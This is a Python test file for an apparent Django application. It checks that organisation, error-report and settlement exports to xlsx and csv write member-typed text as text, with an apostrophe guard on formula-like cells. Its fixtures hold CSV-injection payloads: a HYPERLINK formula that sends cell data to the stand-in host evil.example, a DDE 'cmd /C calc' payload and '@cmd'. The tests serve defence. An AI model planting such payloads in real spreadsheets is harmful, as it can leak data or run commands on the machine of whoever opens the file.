"""No export of ours is a formula sheet: text a member typed comes out as text in .xlsx and .csv,
and a formula-like .csv cell carries the apostrophe guard (which the importer removes again)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from corridor.core.spreadsheet import FORMULA_STARTS, csv_value, strip_csv_guard
from corridor.imports.reading import csv_text
from corridor.imports.report import write_error_report
from corridor.imports.services import ImportRejected, import_organisations
from corridor.orgs.models import Organisation

PAYLOADS = {
    "description_zh": '=HYPERLINK("http://evil.example/?d="&Q2,"点此")',
    "description_en": "+1+1",
    "short_name": "-2+3",
    "website": "@SUM(1,1)",
    "contact_name": "\t=1+1",
    "address": "\r=1+1",
}


def _plant(world, fields=PAYLOADS) -> Organisation:
    Organisation.objects.filter(pk=world.owner_org.pk).update(**fields)
    return world.owner_org


def _xlsx_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_safe_workbook(data: bytes, expect: list[str]) -> None:
    seen = set()
    for cell in _xlsx_cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
            seen.add(cell.value)
    assert set(expect) <= seen  # the payloads are there, as text


@pytest.mark.parametrize("role", ["owner", "admin"])
def test_organisation_exports_write_text_not_formulas(world, role):
    _plant(world)
    client = world.client_for(role)
    response = client.get("/imports/organisations/export.xlsx")
    assert response.status_code == 200
    _assert_safe_workbook(b"".join(response.streaming_content), [PAYLOADS["description_zh"], PAYLOADS["short_name"]])
    response = client.get("/imports/organisations/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + PAYLOADS["description_zh"] in cells and "'-2+3" in cells and "'@SUM(1,1)" in cells


def test_csv_guard_round_trips_through_the_importer(world, tmp_path):
    # Fields the importer accepts any text in (a website or an address is checked on import).
    _plant(world, {k: PAYLOADS[k] for k in ("description_zh", "description_en", "short_name")})
    response = world.client_for("admin").get("/imports/organisations/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    source = tmp_path / "export.csv"
    source.write_text(csv_text(rows[0], rows[1:]), encoding="utf-8")
    result = import_organisations(world.users["admin"], source)
    assert result.errors == [] and result.updated == 0  # "'=…" read back as "=…": nothing changed
    org = Organisation.objects.get(pk=world.owner_org.pk)
    assert org.description_zh == PAYLOADS["description_zh"] and org.short_name == "-2+3"


def test_error_report_writes_text_not_formulas(world, tmp_path):
    source = tmp_path / "bad.csv"
    source.write_text(csv_text(["企业名称", "统一社会信用代码", "简介"], [["=1+1", "bad", "@cmd"]]), encoding="utf-8")
    with pytest.raises(ImportRejected) as info:
        import_organisations(None, source)
    out = tmp_path / "errors.xlsx"
    write_error_report(source, info.value.result, out)
    _assert_safe_workbook(out.read_bytes(), ["=1+1", "@cmd"])


def test_settlement_export_writes_text(world):
    from corridor.equipment.reports import Settlement, SettlementPair, settlement_xlsx

    pair = SettlementPair("=cmd|' /C calc'!A0", "+x", 1, Decimal("1"), Decimal("1"), {"-evil": Decimal("1")})
    _assert_safe_workbook(settlement_xlsx(Settlement([pair], [])), ["=cmd|' /C calc'!A0", "+x"])


def test_the_guard_itself():
    for start in FORMULA_STARTS:
        assert csv_value(start + "x") == "'" + start + "x"
        assert strip_csv_guard(csv_value(start + "x")) == start + "x"
    assert csv_value("plain") == "plain" and csv_value(-3) == -3
    assert strip_csv_guard("'plain") == "'plain"  # only our guard is removed
